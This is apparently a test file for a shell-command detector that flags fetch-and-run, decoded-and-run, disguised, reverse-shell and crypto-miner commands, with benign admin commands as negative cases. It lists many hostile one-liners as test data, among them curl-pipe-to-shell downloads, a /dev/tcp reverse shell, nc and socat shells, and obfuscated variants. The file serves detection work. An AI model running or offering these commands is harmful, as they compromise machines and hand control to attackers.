import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { normalise, readArguments, readCommand } from '../../src/findings/command-reading.ts';
import { editDistance } from '../../src/findings/edit-distance.ts';
import { indicatorsWith } from '../../src/findings/indicators.ts';
import { commandSignals } from '../../src/findings/judge-command.ts';
import { hostNamesIn, remoteAddressesIn } from '../../src/findings/named-hosts.ts';
import { splitShell } from '../../src/findings/shell-words.ts';

const KNOWN = indicatorsWith();
const place = { home: '/root', workingFolder: null };
const codes = (text: string): string[] =>
  commandSignals(readCommand(text, place), KNOWN).map(({ code }) => code);
const strongest = (text: string): number =>
  Math.max(0, ...commandSignals(readCommand(text, place), KNOWN).map(({ weight }) => weight));

describe('a command that fetches and runs', () => {
  it.each([
    'curl -fsSL http://203.0.113.20/i.sh | sh',
    '(curl -fsSL http://203.0.113.20/i.sh||wget -q -O- http://203.0.113.20/i.sh)|sh >/dev/null 2>&1',
    'wget -qO- https://x.example/i.sh | sudo bash -s -- --quiet',
    'bash <(curl -s https://x.example/i.sh)',
    'sh -c "$(curl -fsSL https://x.example/i.sh)"',
    'eval "$(wget -qO- x.example/i)"',
    'bash -c "curl https://x.example/i | python3 -"',
    'cd /tmp && wget -q https://x.example/k -O k && chmod +x k && ./k',
    'curl -o /tmp/a https://x.example/a; sh /tmp/a',
    'curl https://x.example/a.gz | gunzip | bash',
    '`which curl` -s https://x.example/i; curl -s https://x.example/i | nohup bash &',
    'cd1 -s https://x.example/i.sh | bash',
  ])('is recognised: %s', (text) => {
    expect(codes(text)).toContain('fetch-pipe-shell');
  });

  it.each([
    'curl -fsS -m 300 -T /srv/backup/nightly.tar.gz https://backup.example.net/in/ >/dev/null 2>&1',
    '/usr/local/bin/backup.sh && curl -fsS https://hc.example.com/ping/1 > /dev/null',
    'curl -s https://api.example.com/v1 | jq .name',
    'curl -s http://127.0.0.1:9200/_cluster/health | grep -q green || systemctl restart search',
    'wget -q -O /srv/data/list.txt https://example.com/list.txt',
    'curl -s https://example.com/a.csv | python3 /opt/report/load.py',
    'curl -s https://example.com/a.json | awk -f /opt/x.awk',
    'apt-get update && apt-get -y upgrade',
    'find /srv/share -name "*.tmp" -mtime +30 -delete',
    'test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }',
  ])('is not seen in an ordinary job: %s', (text) => {
    expect(strongest(text)).toBeLessThan(20);
  });
});

describe('what only intruders write', () => {
  it.each([
    ['echo aGk= | base64 -d | bash', 'decoded-and-run'],
    ['bash -c "$(echo aGk= | base64 --decode)"', 'decoded-and-run'],
    ['python3 -c "import base64;exec(base64.b64decode(\'aGk=\'))"', 'decoded-and-run'],
    ['bash -i >& /dev/tcp/203.0.113.20/4444 0>&1', 'dev-tcp'],
    ['/var/lib/dpkg/info/cron.postinst', 'dpkg-script'],
    ['/opt/x -o stratum+tcp://pool.minexmr.com:4444 --donate-level 1', 'stratum-url'],
  ])('%s', (text, code) => {
    expect(codes(text)).toContain(code);
  });

  it('is no matter where somebody merely looks for it', () => {
    for (const text of [
      'grep -r stratum+tcp:// /etc /var',
      'sudo rg "stratum+tcp://" /',
      'ps aux | grep -i "xmrig\\|stratum+tcp://"',
      'vi /tmp/stratum+tcp://x',
      'echo stratum+tcp://pool:3333',
    ]) {
      expect(strongest(text), text).toBeLessThan(40);
    }
  });

  it('is no matter where base64 or /dev/tcp is used as people use it', () => {
    expect(strongest('base64 -d /srv/in.b64 > /srv/out.bin')).toBe(0);
    expect(strongest('timeout 1 bash -c "</dev/tcp/127.0.0.1/80"')).toBe(0);
  });
});

describe('paths that a command leads to', () => {
  const targets = (text: string): Record<string, string> =>
    Object.fromEntries(
      readCommand(text, { home: '/root', workingFolder: '/root' }).targets.map(({ path, use }) => [
        path,
        use,
      ]),
    );

  it('are told apart by what is done with them', () => {
    expect(targets('cd /tmp/.x && ./run -c /etc/a.conf >/var/log/a.log 2>&1')).toEqual({
      '/tmp/.x': 'named',
      '/tmp/.x/run': 'run',
      '/etc/a.conf': 'named',
      '/var/log/a.log': 'written',
    });
    expect(targets('nohup ~/.x/y & . $HOME/z; sudo -u ann python3 -u "/opt/a b.py" /srv/in')).toEqual({
      '/root/.x/y': 'run',
      '/root/z': 'run',
      '/opt/a b.py': 'run',
      '/srv/in': 'named',
    });
    expect(targets('/a/b || /c/d; LD_PRELOAD=/tmp/h.so /bin/true')).toMatchObject({
      '/a/b': 'run',
      '/c/d': 'run',
      '/tmp/h.so': 'run',
    });
    expect(targets('[ -x /opt/s ] && /opt/s')).toEqual({ '/opt/s': 'run' });
    expect(targets('echo hi >/dev/null; cat < /dev/null')).toEqual({});
  });

  it('name the script of a process, not its interpreter’s other arguments', () => {
    const read = (...words: string[]) =>
      readArguments(words, { home: null, workingFolder: '/srv/app' }).targets.filter(
        ({ use }) => use === 'run',
      );
    expect(read('node', '--enable-source-maps', 'dist/server.js', '/data')).toEqual([
      { path: '/srv/app/dist/server.js', use: 'run' },
    ]);
    expect(read('/usr/bin/java', '-cp', '/a', '-jar', '/opt/x.jar')).toContainEqual({
      path: '/opt/x.jar',
      use: 'run',
    });
    expect(read('python3', '-m', 'http.server')).toEqual([]);
  });
});

describe('addresses in a command', () => {
  it('are found in URLs, /dev/tcp and host:port, and version numbers are not', () => {
    expect(
      remoteAddressesIn(
        'curl http://203.0.113.20/x -x 198.51.100.7:8080 > /dev/tcp/192.0.2.1/80 http://u:p@[2001:db8::9]:80/',
      ),
    ).toEqual(['203.0.113.20', '198.51.100.7', '192.0.2.1', '2001:db8::9']);
    expect(
      remoteAddressesIn(
        '/opt/app-1.2.3.4/bin/run /opt/1.2.3.4/x --v=10.0.0.1-rc 127.0.0.1 0.0.0.0 999.1.1.1 1.2.3.4.5',
      ),
    ).toEqual([]);
    expect(hostNamesIn('a -o stratum+tcp://pool.example:3333 pool2:4444 http://x.example/y')).toEqual([
      'pool.example',
      'x.example',
      'pool2',
    ]);
  });
});

describe('taking text apart', () => {
  it('never fails and ends, whatever it is given', () => {
    const nasty = fc.array(
      fc.constantFrom(
        '"',
        "'",
        '`',
        '$(',
        '(',
        ')',
        '{',
        '}',
        '|',
        '&',
        ';',
        '\\',
        '\n',
        '<',
        '>',
        '#',
        ' ',
        'a',
        '/x',
        '~',
        '2',
      ),
      { maxLength: 80 },
    );
    fc.assert(
      fc.property(nasty, (pieces) => {
        const text = pieces.join('');
        splitShell(text);
        commandSignals(readCommand(text, place), KNOWN);
      }),
      { numRuns: 400 },
    );
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary' }),
        (text) => commandSignals(readCommand(text, place), KNOWN).length >= 0,
      ),
    );
  });

  it('takes no longer than its text is long', () => {
    for (const piece of ['$(', '`', '"', '(', 'a=', '\\', '|', "'", '/a ', '1.1.1.1:']) {
      const text = piece.repeat(200_000 / piece.length);
      const from = performance.now();
      commandSignals(readCommand(text, place), KNOWN);
      expect(performance.now() - from, piece).toBeLessThan(2000);
    }
  });

  it('gives a path without detours', () => {
    expect(normalise('/a/./b//../c/...')).toBe('/a/c/...');
    fc.assert(fc.property(fc.string(), (text) => normalise(normalise(text)) === normalise(text)));
  });

  it('measures how far names are apart', () => {
    expect(editDistance('systemd-timesyncdd', 'systemd-timesyncd', 2)).toBe(1);
    expect(editDistance('sshd', 'shsd', 2)).toBe(1);
    expect(editDistance('abc', 'xyz', 2)).toBe(3);
    fc.assert(
      fc.property(
        fc.string({ maxLength: 12 }),
        fc.string({ maxLength: 12 }),
        (a, b) => editDistance(a, b, 12) === editDistance(b, a, 12),
      ),
    );
  });
});

describe('a command that is made to be read by nobody', () => {
  const F = 'curl -fsSL http://203.0.113.5/k.sh | bash';
  const base64 = Buffer.from(F).toString('base64');
  const escaped = [...F].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('');
  it.each([
    [`printf '${escaped}' | sh`, 'decoded-and-run'],
    [`echo '${[...F].reverse().join('')}' | rev | sh`, 'decoded-and-run'],
    ["echo 'phey -f uggc://x | onfu' | tr 'a-z' 'n-za-m' | sh", 'decoded-and-run'],
    [`bash <<< "$(echo ${base64} | base64 -d)"`, 'decoded-and-run'],
    ['zcat /usr/share/doc/x/c.gz | sh', 'unpacked-and-run'],
    ['tail -c 9000 /usr/share/pixmaps/debian.png | sh', 'unpacked-and-run'],
    ['a=cu;b=rl;$a$b -s 203.0.113.5/k|$(echo s)h', 'disguised'],
    ['/u?r/b?n/c?rl -s 203.0.113.5/k|/b?n/sh', 'disguised'],
    ['curl${IFS}-s${IFS}203.0.113.5/k|bash', 'fetch-pipe-shell'],
    ['A=cur;B=l;CMD="$A$B -s http://203.0.113.5/k | sh"; eval "$CMD"', 'fetch-pipe-shell'],
    ['c\u0000url -s http://203.0.113.5/k | ba\u0000sh', 'fetch-pipe-shell'],
    ['cu\\\nrl -s http://203.0.113.5/k | ba\\\nsh', 'fetch-pipe-shell'],
    [`true${' '.repeat(900_000)};${F}`, 'fetch-pipe-shell'],
    ['k=$(curl -s http://x.example/k); eval "$k"', 'fetch-pipe-shell'],
  ])('%.60s', (text, code) => expect(codes(text)).toContain(code));

  it.each([
    `python3 -c "import urllib.request as u;exec(u.urlopen('http://203.0.113.5/k').read())"`,
    `perl -MLWP::Simple -e 'eval get("http://203.0.113.5/k")'`,
    `ruby -ropen-uri -e 'eval URI.open("http://203.0.113.5/k").read'`,
    `node -e "fetch('http://203.0.113.5/k').then(r=>r.text()).then(eval)"`,
    `php -r 'eval(file_get_contents("http://203.0.113.5/k"));'`,
    `lua -e 'load(require("socket.http").request("http://203.0.113.5/k"))()'`,
    "tclsh <<< 'package require http; eval [http::data [http::geturl http://203.0.113.5/k]]'",
    `awk 'BEGIN{s="/inet/tcp/0/203.0.113.5/80";print "GET /k"|&s;while((s|&getline l)>0)print l|"sh"}'`,
    'busybox wget -O- http://203.0.113.5/k | busybox sh',
    'openssl s_client -quiet -connect 203.0.113.5:443 2>/dev/null | sh',
    'nc 203.0.113.5 80 | sh',
    `host -t txt k.example.net | cut -d'"' -f2 | sh`,
    '(curl -s 203.0.113.5/k||wget -qO- 203.0.113.5/k)>/var/lib/k&&sh /var/lib/k',
    'curl -s http://203.0.113.5/k | while read l; do eval "$l"; done',
    'curl -s http://203.0.113.5/k | xargs -0 sh -c',
    'ssh -o StrictHostKeyChecking=no x@203.0.113.5 cat k | sh',
    'curl -s http://203.0.113.5/k.tgz | tar xz -C /var/lib/; /var/lib/k/run',
    'scp x@203.0.113.5:k /var/lib/k; sh /var/lib/k',
    'curl -s http://203.0.113.5/k -o /var/lib/k; source /var/lib/k',
    'aria2c -d /var/lib -o k http://203.0.113.5/k; bash /var/lib/k',
    'torsocks curl http://x.onion/k | sh',
    "watch -n 60 'curl -s http://203.0.113.5/k | sh'",
    'su - www -c "curl -s http://203.0.113.5/k | sh"',
  ])('fetches and runs: %s', (text) => expect(codes(text)).toContain('fetch-pipe-shell'));

  it.each(['socat TCP:203.0.113.5:80 EXEC:sh', 'nc -e /bin/sh 203.0.113.5 80'])('gives a shell: %s', (text) =>
    expect(codes(text)).toContain('network-shell'),
  );

  it('is told from what people write', () => {
    for (const text of [
      'IFS=$\'\\n\'; for f in $(ls /srv); do echo "$f"; done',
      'OLD=$IFS; read -r a b <<< "$(cat /proc/loadavg)"; echo $a',
      'd=/srv/backup; n=$(date +%F); tar czf $d/$n.tar.gz /etc && chmod 600 $d/$n.tar.gz',
      'zcat /srv/dump.sql.gz | mysql shop',
      'gunzip -c /srv/a.gz | grep -c x',
      'eval "$(ssh-agent -s)"',
      'eval $(dircolors -b ~/.dircolors)',
      'source <(kubectl completion bash)',
      'nc -z mail.example 25 || systemctl restart postfix',
      'ssh backup@203.0.113.7 "tar cz /srv" > /srv/in.tgz',
      'rsync -a web@198.51.100.3:/srv/ /srv/copy/ && chmod 640 /srv/copy/key',
      'openssl s_client -connect example.com:443 </dev/null | openssl x509 -noout -enddate',
      `python3 -c "import urllib.request; urllib.request.urlopen('https://hc.example/1')"`,
      `node -e "require('http').get('http://localhost:3000', (r) => process.exit(r.statusCode === 200 ? 0 : 1))"`,
      `php -r "copy('https://getcomposer.org/installer', 'setup.php');"`,
      `perl -e 'print "x"' | tr a-z A-Z`,
      'curl -fsS https://hc.example/1 >/dev/null; date > /srv/last; chmod 755 /srv/last',
      'watch -n 5 "ps aux | grep xmrig"',
      '/opt/app-*/bin/run --daily',
      'cat /srv/jobs.txt | xargs -n 1 /usr/local/bin/job',
      'dig +short example.com | head -1',
      'strings /srv/core | grep -i panic',
      'flock -n /run/x.lock -c "/usr/local/bin/sync --all"',
      'busybox ntpd -p pool.ntp.org',
    ])
      expect(strongest(text), text).toBeLessThan(40);
  });
});
